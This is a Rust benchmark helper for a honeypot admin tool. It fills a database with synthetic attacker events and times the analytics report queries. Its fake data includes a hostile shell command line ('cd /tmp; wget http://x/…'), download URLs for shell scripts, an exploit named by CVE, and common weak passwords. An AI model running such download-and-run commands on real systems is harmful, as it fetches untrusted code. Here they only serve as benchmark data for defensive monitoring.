//! Benchmark helper for `scripts/bench-admin.sh` (not part of the product).
//!
//! `bench_admin gen DB N`  writes N synthetic events (30 days, 4 sensors, Zipf-distributed
//!                         sources, users and passwords) through the ingest path
//!                         (`storage::sqlite::insert_event`, 100k events per transaction),
//!                         with the whole schema (the covering indexes on `events` included).
//! `bench_admin time DB`   folds them into the analytics tables (timed), then times every
//!                         report query over several ranges and prints a Markdown table, then
//!                         times folding 100k new events.
//! `bench_admin queries DB` only the query table (changes nothing; for before/after runs).
//! `bench_admin url URL`   any backend (`sqlite:PATH`, `postgres://…`): folds what is new
//!                         (timed), then the query table (`scripts/bench-fleet.sh` runs it on a
//!                         PostgreSQL copy made by `drosera-admin migrate`).
// Tests, benches and examples may panic; the workspace denies unwrap/expect elsewhere.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use anyhow::Context;
use drosera_admin::analytics::{self, Query, DAY_MS, HOUR_MS};
use drosera_admin::enrich::Enricher;
use drosera_admin::storage::sqlite as db;
use drosera_uplink::event::{CloseReason, Detail, Event, Health, Priority, Protocol, Secret, ShedReason, Transport};
use rand::{Rng, SeedableRng};
use std::net::{IpAddr, Ipv4Addr};
use std::path::Path;
use std::time::Instant;

const SENSORS: [&str; 4] = ["pi-garage", "pi-office", "pi-cloud-1", "pi-cloud-2"];
const SERVICES: [(Protocol, u16, u32); 10] = [
    (Protocol::Telnet, 23, 30),
    (Protocol::Ssh, 22, 25),
    (Protocol::Smb, 445, 12),
    (Protocol::Http, 80, 10),
    (Protocol::Mssql, 1433, 5),
    (Protocol::Mysql, 3306, 5),
    (Protocol::Ftp, 21, 5),
    (Protocol::Redis, 6379, 3),
    (Protocol::Sip, 5060, 2),
    (Protocol::Blackhole, 8080, 3),
];
const USERS: [&str; 12] =
    ["root", "admin", "user", "support", "guest", "ubuntu", "pi", "test", "oracle", "postgres", "sa", "ftp"];

/// Index in 0..n with a heavy head (roughly Zipf).
fn skewed(rng: &mut impl Rng, n: u32) -> u32 {
    let u: f64 = rng.gen();
    ((n as f64) * u.powi(4)) as u32
}

fn ip_for(i: u32) -> IpAddr {
    let h = (i as u64).wrapping_mul(0x9E37_79B9_7F4A_7C15) >> 32;
    let mut a = 1 + (h % 223) as u8;
    if matches!(a, 10 | 100 | 127 | 169 | 172 | 192 | 198 | 203) {
        a += 1;
    }
    IpAddr::V4(Ipv4Addr::new(a, (h >> 8) as u8, (h >> 16) as u8, (h >> 24) as u8 | 1))
}

fn generate(path: &Path, n: u64) -> anyhow::Result<()> {
    // The whole schema, as `serve` has it: covering indexes on `events` that ingest maintains.
    let mut conn = db::open(path)?;
    let mut rng = rand::rngs::StdRng::seed_from_u64(42);
    let end = analytics::now_ms();
    let start = end - 30 * DAY_MS;
    let step = (30 * DAY_MS) as f64 / n as f64;
    let mut seqs = [0u64; 4];
    let mut sessions = [0u64; 4];
    let started = Instant::now();
    let batch = 100_000u64;
    let mut i = 0u64;
    while i < n {
        let tx = conn.transaction()?;
        let ids: Vec<i64> = SENSORS.iter().map(|s| db::sensor_id(&tx, s)).collect::<Result<_, _>>()?;
        for _ in 0..batch.min(n - i) {
            let s = [0, 0, 0, 0, 1, 1, 2, 3][rng.gen_range(0..8)];
            let total: u32 = SERVICES.iter().map(|x| x.2).sum();
            let mut pick = rng.gen_range(0..total);
            let (protocol, port, _) = *SERVICES
                .iter()
                .find(|x| {
                    if pick < x.2 {
                        true
                    } else {
                        pick -= x.2;
                        false
                    }
                })
                .unwrap_or(&SERVICES[0]);
            let k = rng.gen_range(0..1000);
            let detail = if k < 550 {
                sessions[s] += 1;
                Detail::Connection { first_bytes: vec![], closed_by: CloseReason::ClientClosed }
            } else if k < 850 {
                let user = USERS[skewed(&mut rng, USERS.len() as u32) as usize];
                let pw = match skewed(&mut rng, 20_000) {
                    0 => "123456".to_string(),
                    1 => "admin".to_string(),
                    x => format!("pw{x}"),
                };
                Detail::Login { username: user.into(), secret: Secret::Password(pw), success: false, extra: vec![] }
            } else if k < 930 {
                Detail::Command { line: format!("cd /tmp; wget http://x/{}", skewed(&mut rng, 500)) }
            } else if k < 970 {
                Detail::HttpRequest {
                    method: "GET".into(),
                    path: format!("/p{}", skewed(&mut rng, 300)),
                    query: String::new(),
                    host: String::new(),
                    user_agent: "bench".into(),
                    body_sha256: None,
                    body_len: 0,
                    extra: vec![],
                }
            } else if k < 980 {
                Detail::Fingerprint {
                    kind: "hassh".into(),
                    value: format!("{:032x}", skewed(&mut rng, 50)),
                    extra: vec![],
                }
            } else if k < 985 {
                let h = skewed(&mut rng, 400) as u8;
                Detail::Payload {
                    sha256: [h; 32],
                    size: 1000 + h as u64,
                    name: String::new(),
                    prefix: vec![],
                    truncated: false,
                }
            } else if k < 990 {
                Detail::DownloadOffered {
                    url: format!("http://198.51.100.{}/x.sh", skewed(&mut rng, 200)),
                    tool: "wget".into(),
                }
            } else if k < 995 {
                Detail::Exploit {
                    name: format!("exploit-{}", skewed(&mut rng, 20)),
                    cve: "CVE-2017-0144".into(),
                    extra: vec![],
                }
            } else {
                Detail::Rollup { minute_ms: 0, reason: ShedReason::RateLimited, connections: rng.gen_range(1..200) }
            };
            seqs[s] += 1;
            let ev = Event {
                seq: seqs[s],
                time_ms: start + (i as f64 * step) as i64,
                sensor: String::new(),
                transport: Transport::Tcp,
                protocol,
                src_ip: ip_for(skewed(&mut rng, 50_000)),
                src_port: rng.gen(),
                dst_port: port,
                session_id: sessions[s],
                duration_ms: rng.gen_range(0..30_000),
                bytes_in: rng.gen_range(0..2000),
                bytes_out: rng.gen_range(0..2000),
                priority: Priority::Noise,
                detail,
            };
            db::insert_event(&tx, ids[s], &ev)?;
            i += 1;
        }
        let h = Health {
            backlog_events: rng.gen_range(0..100),
            cpu_permille: 80,
            governor: "normal".into(),
            ..Default::default()
        };
        for id in &ids {
            tx.execute(
                "UPDATE sensors SET last_contact_ms = ?1, health_json = ?2 WHERE id = ?3",
                rusqlite::params![end, serde_json::to_string(&h)?, id],
            )?;
        }
        tx.commit()?;
        if i % 1_000_000 == 0 {
            eprintln!("{i} events, {:.0} events/s", i as f64 / started.elapsed().as_secs_f64());
        }
    }
    println!("generated {n} events in {:.1} s", started.elapsed().as_secs_f64());
    Ok(())
}

fn time_it<T>(f: impl Fn() -> anyhow::Result<T>) -> anyhow::Result<f64> {
    let mut best = f64::MAX;
    for _ in 0..3 {
        let t = Instant::now();
        f()?;
        best = best.min(t.elapsed().as_secs_f64() * 1000.0);
    }
    Ok(best)
}

fn time_queries(path: &Path) -> anyhow::Result<()> {
    let mut conn = db::open(path)?;
    let en = Enricher::new(&Default::default())?;
    let n: i64 = conn.query_row("SELECT COUNT(*) FROM events", [], |r| r.get(0))?;
    let t = Instant::now();
    let folded = analytics::refresh(&mut conn, &en)?;
    let secs = t.elapsed().as_secs_f64();
    println!("events in database: {n}");
    println!(
        "analytics refresh (catch-up): {folded} events in {secs:.1} s = {:.0} events/s",
        folded as f64 / secs.max(1e-9)
    );
    let bytes = std::fs::metadata(path)?.len();
    println!("database file: {} MiB", bytes >> 20);
    query_table(&conn)?;
    // Steady state: 100k new events, then a refresh.
    let now = analytics::now_ms();
    let mut tx_conn = db::open(path)?;
    let tx = tx_conn.transaction()?;
    let id = db::sensor_id(&tx, SENSORS[0])?;
    let base: i64 =
        tx.query_row("SELECT COALESCE(MAX(seq), 0) FROM events WHERE sensor_id = ?1", [id], |r| r.get(0))?;
    for k in 0..100_000i64 {
        let ev = Event {
            seq: (base + 1 + k) as u64,
            time_ms: now - 1000 + k % 1000,
            sensor: String::new(),
            transport: Transport::Tcp,
            protocol: Protocol::Telnet,
            src_ip: ip_for((k % 5000) as u32),
            src_port: 1,
            dst_port: 23,
            session_id: k as u64,
            duration_ms: 0,
            bytes_in: 0,
            bytes_out: 0,
            priority: Priority::Noise,
            detail: Detail::Connection { first_bytes: vec![], closed_by: CloseReason::ClientClosed },
        };
        db::insert_event(&tx, id, &ev)?;
    }
    tx.commit()?;
    let t = Instant::now();
    let folded = analytics::refresh(&mut conn, &en)?;
    println!("incremental refresh: {folded} new events in {:.2} s", t.elapsed().as_secs_f64());
    Ok(())
}

/// Times every report query over the four ranges (best of 3) and prints the Markdown table.
fn query_table(conn: &dyn drosera_admin::storage::Storage) -> anyhow::Result<()> {
    let now = analytics::now_ms();
    let ranges = [
        ("30 days", Query { since_ms: Some(now - 31 * DAY_MS), until_ms: None, sensor: None, ..Default::default() }),
        ("7 days", Query { since_ms: Some(now - 7 * DAY_MS), until_ms: None, sensor: None, ..Default::default() }),
        ("24 hours", Query { since_ms: Some(now - 24 * HOUR_MS), until_ms: None, sensor: None, ..Default::default() }),
        (
            "30 days, 1 sensor",
            Query {
                since_ms: Some(now - 31 * DAY_MS),
                until_ms: None,
                sensor: Some(SENSORS[0].into()),
                ..Default::default()
            },
        ),
    ];
    println!("\n| query | 30 days | 7 days | 24 hours | 30 days, 1 sensor |\n|---|---|---|---|---|");
    type Q = Box<dyn Fn(&dyn drosera_admin::storage::Storage, &Query) -> anyhow::Result<()>>;
    let queries: Vec<(&str, Q)> = vec![
        ("totals", Box::new(|c, q| Ok(analytics::totals(c, q).map(|_| ())?))),
        ("timeline", Box::new(|c, q| Ok(analytics::timeline(c, q).map(|_| ())?))),
        ("top sources (min 10 attempts)", Box::new(|c, q| Ok(analytics::top_sources(c, q, 10, 50).map(|_| ())?))),
        ("countries", Box::new(|c, q| Ok(analytics::countries(c, q, 50).map(|_| ())?))),
        ("protocols", Box::new(|c, q| Ok(analytics::protocols(c, q).map(|_| ())?))),
        ("ports", Box::new(|c, q| Ok(analytics::ports(c, q, 50).map(|_| ())?))),
        ("credentials", Box::new(|c, q| Ok(analytics::credentials(c, q, 50).map(|_| ())?))),
        ("payloads", Box::new(|c, q| Ok(analytics::payloads(c, q, 50).map(|_| ())?))),
        ("exploits", Box::new(|c, q| Ok(analytics::exploits(c, q, 50).map(|_| ())?))),
        ("downloads", Box::new(|c, q| Ok(analytics::downloads(c, q, 50).map(|_| ())?))),
        ("sensors", Box::new(|c, q| Ok(analytics::sensors(c, q).map(|_| ())?))),
        ("full report (all of the above)", Box::new(|c, q| Ok(analytics::report(c, q, 10, 50).map(|_| ())?))),
    ];
    for (name, f) in &queries {
        let mut cells = Vec::new();
        for (_, q) in &ranges {
            cells.push(format!("{:.0} ms", time_it(|| f(conn, q))?));
        }
        println!("| {name} | {} |", cells.join(" | "));
    }
    let r = analytics::report(conn, &ranges[0].1, 10, 5)?;
    println!(
        "\n30-day totals: {} attempts, {} logins, {} attackers, {} countries",
        r.totals.attempts, r.totals.logins, r.totals.attackers, r.totals.countries
    );
    Ok(())
}

fn main() -> anyhow::Result<()> {
    let args: Vec<String> = std::env::args().collect();
    match args.get(1).map(String::as_str) {
        Some("gen") if args.len() == 4 => generate(Path::new(&args[2]), args[3].parse()?),
        Some("time") if args.len() == 3 => time_queries(Path::new(&args[2])),
        Some("queries") if args.len() == 3 => query_table(&db::open(Path::new(&args[2]))?),
        // Any backend by URL (sqlite:PATH or postgres://…): fold what is new (timed), then the table.
        Some("url") if args.len() == 3 => {
            let b = drosera_admin::storage::parse_url(&args[2]).map_err(anyhow::Error::msg)?.context("empty URL")?;
            let mut store = drosera_admin::storage::open_backend(&b)?;
            let t = Instant::now();
            let folded = analytics::refresh(&mut *store, &Enricher::new(&Default::default())?)?;
            let secs = t.elapsed().as_secs_f64();
            println!(
                "analytics refresh: {folded} events in {secs:.1} s = {:.0} events/s",
                folded as f64 / secs.max(1e-9)
            );
            query_table(&*store)
        }
        _ => anyhow::bail!(
            "usage: bench_admin gen DB N | bench_admin time DB | bench_admin queries DB | bench_admin url URL"
        ),
    }
}
